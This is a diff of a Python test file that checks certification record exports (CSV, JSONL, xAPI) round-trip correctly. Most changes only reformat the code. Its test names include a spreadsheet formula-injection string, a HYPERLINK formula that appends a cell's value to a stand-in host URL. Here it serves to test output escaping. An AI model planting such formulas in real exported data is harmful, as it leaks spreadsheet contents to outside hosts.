@@ -1,4 +1,5 @@
 """Each format round-trips: parse back what was written and compare it with the records it came from."""
+
 from __future__ import annotations
 
 import csv
@@ -16,19 +17,31 @@ from xblocks.certification.exports import formats, presets
 from xblocks.certification.exports.records import RecordBuilder, ceu
 from xblocks.certification.exports.xapi import EARNED, StatementBuilder, statement_id
 
-NAMES = ['=HYPERLINK("http://x.example/?"&A1)', "Léa, \"the\" Benali", "ليلى حداد", "+1+1", "Plain Name"]
+NAMES = ['=HYPERLINK("http://x.example/?"&A1)', 'Léa, "the" Benali', "ليلى حداد", "+1+1", "Plain Name"]
 
 
-def certificate(n: int, name: str = "Plain Name", *, status: str = "active", cohort: str = "North 2026") -> CertificateData:
+def certificate(
+    n: int, name: str = "Plain Name", *, status: str = "active", cohort: str = "North 2026"
+) -> CertificateData:
     return CertificateData(
-        id=n, number=f"KF-2026-{n:05d}", status=status,
-        issued_at=dt.datetime(2026, 6, 30, 9, 15, 30, tzinfo=dt.UTC), valid_from=dt.date(2026, 6, 30),
+        id=n,
+        number=f"KF-2026-{n:05d}",
+        status=status,
+        issued_at=dt.datetime(2026, 6, 30, 9, 15, 30, tzinfo=dt.UTC),
+        valid_from=dt.date(2026, 6, 30),
         valid_until=dt.date(2028, 6, 30) if n % 2 else None,
         learner=LearnerData(n, f"user{n}", f"user{n}@example.com", name, "", "en"),
         track=TrackData(1, "cloud-ops", "Cloud Operations Associate", "", 3, 7, "", 40.0),
         school=SchoolData(1, "north", "North School", "", "", "FR", ""),
-        cohort_id=1, cohort_name=cohort, cohort_slug="n-2026", hours_total=16 + n / 3, hours_by_category={"ethics": 3.0},
-        hours_by_source={}, results=(), employee_id=f"E-{n}" if n % 3 else "", evidence={},
+        cohort_id=1,
+        cohort_name=cohort,
+        cohort_slug="n-2026",
+        hours_total=16 + n / 3,
+        hours_by_category={"ethics": 3.0},
+        hours_by_source={},
+        results=(),
+        employee_id=f"E-{n}" if n % 3 else "",
+        evidence={},
     )
 
 
@@ -95,7 +108,9 @@ def test_jsonl_round_trips_with_typed_values():
     out = io.BytesIO()
     formats.write_jsonl(CERTS, out, preset=preset, progress=_never)
     lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
-    expected = [dict(zip(preset.headers, [formats.json_value(v) for v in row], strict=True)) for row in expected_rows(preset)]
+    expected = [
+        dict(zip(preset.headers, [formats.json_value(v) for v in row], strict=True)) for row in expected_rows(preset)
+    ]
     assert lines == expected
     assert lines[0]["full_name"] == CERTS[0].learner.full_name  # JSON is not a spreadsheet: no prefix
 
@@ -116,8 +131,17 @@ def test_xapi_writes_one_statement_per_event_with_deterministic_ids():
     events = {
         cert.id: [
             CertificateEventData(cert.id * 10 + 1, cert.id, "issued", "active", "", "system", cert.issued_at, "h1", ""),
-            CertificateEventData(cert.id * 10 + 2, cert.id, "suspended", "suspended", "fees", "staff",
-                                 cert.issued_at + dt.timedelta(days=1), "h2", "h1"),
+            CertificateEventData(
+                cert.id * 10 + 2,
+                cert.id,
+                "suspended",
+                "suspended",
+                "fees",
+                "staff",
+                cert.issued_at + dt.timedelta(days=1),
+                "h2",
+                "h1",
+            ),
         ]
         for cert in CERTS
     }
